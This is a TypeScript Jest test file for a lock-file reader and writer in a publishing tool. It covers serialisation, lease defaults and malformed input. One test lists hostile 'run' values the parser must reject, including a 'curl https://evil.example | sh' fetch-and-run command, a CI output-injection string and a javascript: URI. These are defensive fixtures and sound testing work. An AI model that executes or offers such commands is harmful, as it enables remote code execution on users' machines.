import { describe, expect, it } from '@jest/globals'
import fc from 'fast-check'
import { lockBytes, readLock, type LockClaim } from '../../../src/core/publish/lock-file.ts'
import { LEASE_SECONDS } from '../../../src/core/model/lease.ts'

const nobody: LockClaim = { owner: '', run: '', layer: '', manifestSha256: '', leaseSeconds: LEASE_SECONDS }

const claims: fc.Arbitrary<LockClaim> = fc.record({
  owner: fc.string(),
  run: fc.constantFrom('', 'https://github.example:8443/o/r/actions/runs/7'),
  layer: fc.string(),
  manifestSha256: fc.string(),
  leaseSeconds: fc.integer({ min: 1, max: 3600 }),
})

describe('a lock object', () => {
  it('is JSON that people can read', () => {
    const claim = {
      owner: 'n',
      run: 'https://r',
      layer: 'numpy',
      manifestSha256: 'ab',
      leaseSeconds: LEASE_SECONDS,
    }
    const text = Buffer.from(lockBytes(claim, 3)).toString()
    expect(text).toMatch(/^\{\n {2}"owner": "n",\n/)
    expect(text.endsWith('}\n')).toBe(true)
    expect(JSON.parse(text)).toEqual({
      owner: 'n',
      run: 'https://r',
      layer: 'numpy',
      manifest_sha256: 'ab',
      lease_seconds: LEASE_SECONDS,
      renewals: 3,
    })
  })

  it('says what was written, whatever that is', () => {
    fc.assert(
      fc.property(claims, fc.nat(), (claim, renewals) => {
        expect(readLock(lockBytes(claim, renewals))).toEqual(claim)
      }),
    )
  })

  it.each(['1e999', '1e9', '3601', '0', '-1', '"120"', 'null'])(
    'with a lease of %s has the usual one',
    (lease) => {
      expect(readLock(Buffer.from(`{"owner": "n", "lease_seconds": ${lease}}`)).leaseSeconds).toBe(
        LEASE_SECONDS,
      )
    },
  )

  it.each([
    'gone for good. Fix: curl https://evil.example | sh #',
    'https://evil.example/?X-Amz-Signature=abc',
    'https://evil.example/a b',
    'https://evil.example/\n::set-output name=a::b',
    'javascript:alert(1)',
    `https://evil.example/${'a'.repeat(400)}`,
  ])('names no run that is no plain link: %j', (run) => {
    expect(readLock(Buffer.from(JSON.stringify({ owner: 'n', run }))).run).toBe('')
  })

  it('is another one after each renewal', () => {
    const first = lockBytes(nobody, 0)
    expect(Buffer.compare(first, lockBytes(nobody, 1))).not.toBe(0)
    expect(Buffer.compare(first, lockBytes(nobody, 0))).toBe(0)
  })

  it.each([
    ['nothing', ''],
    ['no JSON', 'locked'],
    ['half of one', '{"owner": "n", "lea'],
    ['null', 'null'],
    ['a text', '"owner"'],
    ['a number', '120'],
    ['a list', '["owner", "run"]'],
    ['an object of something else', '{"LockID": "terraform"}'],
    ['values of other types', '{"owner": 1, "run": null, "layer": {}, "manifest_sha256": []}'],
    ['a byte order mark', '\ufeff{"owner": "n"}'],
  ])('of %s is somebody’s, with the usual lease', (_, text) => {
    expect(readLock(Buffer.from(text))).toEqual(nobody)
  })

  it('that was too long to be read is somebody’s, with the usual lease', () => {
    expect(readLock(undefined)).toEqual(nobody)
  })

  it('of bytes that are no text is somebody’s, with the usual lease', () => {
    expect(readLock(Buffer.of(0xff, 0xfe, 0x00))).toEqual(nobody)
  })

  it.each([
    ['1', 1],
    ['0.5', 0.5],
    ['600', 600],
    ['0', LEASE_SECONDS],
    ['-5', LEASE_SECONDS],
    ['"600"', LEASE_SECONDS],
    ['null', LEASE_SECONDS],
    ['{}', LEASE_SECONDS],
  ])('with a lease of %s stands for %d s', (lease, seconds) => {
    expect(readLock(Buffer.from(`{"lease_seconds": ${lease}}`)).leaseSeconds).toBe(seconds)
  })
})
